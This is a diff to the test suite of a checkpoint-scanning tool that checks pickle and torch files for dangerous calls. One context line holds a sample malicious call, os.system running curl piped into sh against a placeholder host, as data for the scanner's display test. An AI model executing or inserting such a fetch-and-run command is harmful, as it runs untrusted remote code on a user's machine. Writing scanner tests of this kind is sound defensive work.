@@ -5,6 +5,7 @@ import contextlib
 import gzip
 import io
 import lzma
+import os
 import pickle
 import re
 import struct
@@ -17,7 +18,12 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 import ckptool
+from ckptool.disk import files
+from ckptool.errors import CheckpointError
+from ckptool.formats import WITHOUT_PICKLES
+from ckptool.formats.pickle.reader import NeedsMore
 from ckptool.reports.scanning.following import Recorder
+from ckptool.reports.scanning.pickles import BEGINNINGS
 from ckptool.reports.scanning.scan import call_text, group_of
 from ckptool.tree import Global, List, Object
 
@@ -283,6 +289,31 @@ def test_a_call_reads_like_python_and_is_cut():
     assert text.startswith("os.system('curl http://x | sh\\x1b[31maaa")
     assert len(text) <= 160
     assert call_text(Object("reduce", made, ((),))).startswith("os.system(")
+
+
+def test_what_is_tried_as_a_pickle_begins_with_what_our_machine_takes_first():
+    def begins(byte):
+        try:
+            Recorder(bytes([byte]), complete=False, total=1 << 20).load()
+        except NeedsMore:
+            return True
+        except CheckpointError:
+            return False
+        return True
+
+    assert {bytes([byte]) for byte in range(256) if begins(byte)} - {b"P"} == BEGINNINGS
+
+
+def test_formats_without_pickles_are_the_formats_that_hold_none_in_their_order():
+    assert list(WITHOUT_PICKLES) == [one for one in ckptool.FORMATS if not one.pickles]
+
+
+def test_a_small_file_is_read_once(tmp_path, monkeypatch):
+    (tmp_path / "x.pth").write_bytes(hostile.torch_zip())
+    reads = []
+    monkeypatch.setattr(files, "_pread", lambda *wanted: reads.append(wanted[1:]) or os.pread(*wanted))
+    assert ckptool.scan(tmp_path / "x.pth").verdict == "safe"
+    assert reads == [((tmp_path / "x.pth").stat().st_size, 0)]
 
 
 @given(st.binary(max_size=300))
